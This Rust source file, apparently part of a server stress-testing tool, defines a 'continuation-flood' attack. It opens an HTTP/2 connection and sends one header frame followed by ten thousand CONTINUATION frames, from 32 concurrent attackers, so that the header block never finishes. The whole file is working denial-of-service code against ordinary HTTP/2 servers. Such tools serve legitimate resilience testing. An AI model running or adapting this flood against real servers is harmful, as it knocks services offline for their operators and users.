//! Sends an HTTP/2 head that never ends.

use super::{Attack, WITH_HTTP2};
use crate::{aim::Aim, frames};
use anyhow::Result;
use futures::FutureExt as _;
use tokio::io::AsyncWriteExt;

pub(super) const ATTACK: Attack = Attack {
    name: "continuation-flood",
    about: "Sends an HTTP/2 head that never ends",
    targets: WITH_HTTP2,
    attackers: 32,
    leaves_answers: false,
    other_honest: None,
    once: |aim| once(aim).boxed(),
};

async fn once(aim: Aim) -> Result<()> {
    let mut stream = aim.connect_http2(&[]).await?;
    stream.write_all(&frames::open_head(1)).await?;
    for _ in 0..10_000 {
        stream.write_all(&frames::continuation(1, 100)).await?;
    }
    Ok(())
}
